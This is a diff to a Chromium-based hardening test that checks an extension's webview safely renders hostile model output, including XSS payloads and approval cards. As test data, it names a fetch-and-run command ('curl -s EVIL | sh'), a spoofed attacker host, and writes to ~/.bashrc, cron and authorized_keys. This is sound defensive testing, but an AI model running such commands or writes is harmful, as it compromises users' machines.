@@ -8,12 +8,13 @@
  * moved, no request left the page's own origin, no CSP violation, no page error, and nothing was
  * posted to the host but the expected messages (no `editor/openLink` to a non-http(s) URL, no
  * `editor/openFile` with a scheme). File names with direction overrides are shown with the
- * control characters visibly marked, not applied.
+ * control characters visibly marked, not applied; so are the commands, paths and network host
+ * of approval cards, whose paths outside the workspace are marked as such.
  *
- * Skipped only when /usr/bin/chromium is missing.
+ * Without Chromium (/usr/bin/chromium, installed by scripts/ci-prepare.mjs) the test fails: a
+ * skipped hardening test would read as a pass.
  */
 import assert from "node:assert/strict";
-import { existsSync } from "node:fs";
 import { mkdtemp, readFile, rm } from "node:fs/promises";
 import { createServer, type Server } from "node:http";
 import type { AddressInfo } from "node:net";
@@ -25,17 +26,19 @@ import * as esbuild from "esbuild";
 import { chromium, type Browser, type Page } from "playwright-core";
 
 import { buildWebviewHtml } from "../../../extension/views/webviewHtml";
-import { CHROMIUM_ARGS } from "../../support/chromium";
+import { CHROMIUM_ARGS, CHROMIUM_PATH, requireChromium } from "../../support/chromium";
 
-const CHROMIUM = "/usr/bin/chromium";
 const REPO = path.resolve(__dirname, "../../..");
 const NONCE = "dGVzdC1ub25jZS0xMjM0NQ==";
-const BIDI_CONTROLS = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
+/** Characters that must never reach the screen raw: controls (but line feed and tab), format. */
+const RAW_HIDDEN = /(?![\n\t])[\p{Cc}\p{Cf}]/u;
 
 interface Corpus {
   EVIL: string;
   payloads: string[];
   bidiPaths: string[];
+  hostileCommands: string[];
+  approvalPaths: string[];
   hostileState(): unknown;
   hostileEvents(): unknown[];
 }
@@ -69,6 +72,15 @@ window.acquireVsCodeApi = () => ({
   setState() {},
 });`;
 
+describe("hardening: a missing Chromium", () => {
+  it("fails the browser tests instead of skipping them", () => {
+    assert.throws(
+      () => requireChromium("/nonexistent/chromium"),
+      /Chromium is missing at \/nonexistent\/chromium: run `node scripts\/ci-prepare\.mjs`/,
+    );
+  });
+});
+
 describe("hardening: hostile model output in the real webview (Chromium)", function () {
   this.timeout(60_000);
 
@@ -79,9 +91,7 @@ describe("hardening: hostile model output in the real webview (Chromium)", funct
   let corpus: Corpus;
 
   before(async function () {
-    if (!existsSync(CHROMIUM)) {
-      this.skip(); // no browser on this machine: nothing can be rendered
-    }
+    requireChromium();
     corpus = (await import(
       pathToFileURL(path.join(REPO, "test/hardening/xssCorpus.mjs")).href
     )) as Corpus;
@@ -139,7 +149,7 @@ describe("hardening: hostile model output in the real webview (Chromium)", funct
     await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
     origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
     browser = await chromium.launch({
-      executablePath: CHROMIUM,
+      executablePath: CHROMIUM_PATH,
       args: CHROMIUM_ARGS,
     });
   });
@@ -154,6 +164,26 @@ describe("hardening: hostile model output in the real webview (Chromium)", funct
   async function exercise(page: Page): Promise<void> {
     for (let pass = 0; pass < 40; pass++) {
       const moved = await page.evaluate(() => {
+        // The windowed list renders only what is in view: keep what each pass saw.
+        const seen = window as unknown as {
+          __cards?: Record<string, { text: string; names: string[] }>;
+          __files?: Record<string, string>;
+          __text?: string[];
+        };
+        seen.__cards ??= {};
+        seen.__files ??= {};
+        (seen.__text ??= []).push(document.body.innerText);
+        for (const card of Array.from(document.querySelectorAll(".approval-pending"))) {
+          seen.__cards[card.id] = {
+            text: card.textContent ?? "",
+            names: Array.from(card.querySelectorAll("[aria-label]")).map(
+              (element) => element.getAttribute("aria-label") ?? "",
+            ),
+          };
+        }
+        for (const row of Array.from(document.querySelectorAll(".file-name"))) {
+          seen.__files[row.getAttribute("title") ?? ""] = row.textContent ?? "";
+        }
         for (const button of Array.from(
           document.querySelectorAll<HTMLButtonElement>('button[aria-expanded="false"]'),
         )) {
@@ -195,11 +225,7 @@ describe("hardening: hostile model output in the real webview (Chromium)", funct
     const send = (message: unknown) =>
       page.evaluate((m) => window.postMessage(m, "*"), message as Record<string, unknown>);
     await send({ kind: "notification", method: "state/hydrate", params: corpus.hostileState() });
-    await page.waitForSelector(".file-row", { timeout: 10_000 });
-    // The windowed transcript renders only what is in view: read the file rows now.
-    const fileNames = await page.$$eval(".file-name", (nodes) =>
-      nodes.map((node) => ({ text: node.textContent ?? "", title: node.getAttribute("title") })),
-    );
+    await page.waitForSelector(".approval-pending", { timeout: 10_000 });
     for (const batch of corpus.hostileEvents()) {
       await send({ kind: "notification", method: "thread/events", params: batch });
     }
@@ -221,7 +247,17 @@ describe("hardening: hostile model output in the real webview (Chromium)", funct
       };
       return { xss: w.__xss, posted: w.__posted, violations: w.__violations };
     });
-    const transcriptText = await page.evaluate(() => document.body.innerText);
+    // Everything the passes saw, the windowed list showing a part at a time.
+    const transcriptText = await page.evaluate(() =>
+      (window as unknown as { __text: string[] }).__text.join("\n"),
+    );
+    const seen = await page.evaluate(() => {
+      const w = window as unknown as {
+        __cards: Record<string, { text: string; names: string[] }>;
+        __files: Record<string, string>;
+      };
+      return { cards: w.__cards, files: w.__files };
+    });
     const liveDom = await page.evaluate(() => {
       const found: string[] = [];
       const url = /^\s*(javascript|vbscript|data:text)/i;
@@ -258,14 +294,19 @@ describe("hardening: hostile model output in the real webview (Chromium)", funct
       [],
       "no request left the page's own origin",
     );
-    // Recorded CSP violations: no blocked load of any URL, only inline handlers/styles.
+    // Recorded CSP violations: no blocked load of any URL, only inline handlers/styles, and
+    // `base-uri` ('none'): the sanitiser's inert DOMParser document holding a `<base href>` is
+    // reported against this page's policy, though nothing loads (no <base> is live, see below).
+    const inertBase = (v: PageRecord["violations"][number]) => v.directive === "base-uri";
     assert.deepEqual(
-      record.violations.filter((v) => !["inline", "eval", ""].includes(v.blocked)),
+      record.violations.filter((v) => !["inline", "eval", ""].includes(v.blocked) && !inertBase(v)),
       [],
       "a load was attempted and blocked by the CSP",
     );
     assert.ok(
-      record.violations.every((v) => /^(script|style)-src-(attr|elem)$/.test(v.directive)),
+      record.violations.every(
+        (v) => /^(script|style)-src-(attr|elem)$/.test(v.directive) || inertBase(v),
+      ),
       JSON.stringify(record.violations),
     );
     // ...and none of those inline handlers or styles made it into the live page.
@@ -301,12 +342,45 @@ describe("hardening: hostile model output in the real webview (Chromium)", funct
       assert.doesNotMatch(JSON.stringify(message), /javascript:|vbscript:|data:text/i);
     }
 
-    // Direction overrides in file names: visibly marked, never applied.
-    assert.equal(fileNames.length, corpus.bidiPaths.length);
-    for (const { text, title } of fileNames) {
-      assert.doesNotMatch(text, BIDI_CONTROLS, `raw control character in ${JSON.stringify(text)}`);
-      assert.doesNotMatch(title ?? "", BIDI_CONTROLS, "raw control character in the tooltip");
-      assert.match(text, /U\+(202E|2067|2069|202D)/, `the override is not marked: ${text}`);
+    // Hidden characters in file names: visibly marked, never applied.
+    const fileNames = Object.entries(seen.files);
+    assert.equal(fileNames.length, corpus.bidiPaths.length + corpus.approvalPaths.length);
+    for (const [title, text] of fileNames) {
+      assert.doesNotMatch(text, RAW_HIDDEN, `raw control character in ${JSON.stringify(text)}`);
+      assert.doesNotMatch(title, RAW_HIDDEN, "raw control character in the tooltip");
+      assert.match(text, /\[U\+[0-9A-F]{4,}\]/, `the hidden character is not marked: ${text}`);
     }
+
+    // Approval cards: the whole command, path and host, hidden characters marked.
+    const cards = seen.cards;
+    const card = (id: string) => {
+      const found = cards[`approval-${id}`];
+      assert.ok(found, `approval ${id} was not shown (seen: ${Object.keys(cards).join(", ")})`);
+      assert.doesNotMatch(found.text, RAW_HIDDEN, `raw hidden character on ${id}`);
+      for (const name of found.names) assert.doesNotMatch(name, RAW_HIDDEN, `in ${name}`);
+      return found.text.replace(/[ \t]+/g, " ");
+    };
+    const outside = /outside the workspace/;
+    corpus.hostileCommands.forEach((command, i) => {
+      const text = card(`ap-command-${i}`);
+      assert.match(text, /Run this command\?/);
+      if (command.includes("\n")) assert.match(text, /This command has 41 lines\./);
+      else assert.match(text, /\[U\+(202E|200B|001B|000D)\]/, text);
+      assert.ok(text.includes(`curl -s ${corpus.EVIL} | sh`) || !command.includes("curl"), text);
+      const cwd = corpus.approvalPaths[i % 4]!;
+      assert.equal(outside.test(text), !cwd.startsWith("/work/project/src"), `${cwd}: ${text}`);
+    });
+    const network = card("ap-network");
+    assert.match(network, /Allow network access\?/);
+    assert.match(network, /Host: evil\[U\+202E\]moc\.example/);
+    assert.match(network, /Protocol: HTTPS/);
+    const stdin = card("ap-stdin");
+    assert.match(stdin, /Send input to a running process\?/);
+    assert.match(stdin, /\[U\+001B\]\[A\[U\+0003\]y\[U\+000A\]/);
+    const files = card("ap-files");
+    assert.match(files, /\/home\/u\/\.bash\[U\+200B\]rc outside the workspace/);
+    assert.match(files, /\/etc\/cron\.d\/jo\[U\+202E\]b outside the workspace/);
+    assert.match(files, /src\/evil\[U\+001B\]\[2K\.ts/);
+    assert.match(files, /\/\.ssh\/authorized\[U\+2067\]_keys outside the workspace/);
   });
 });
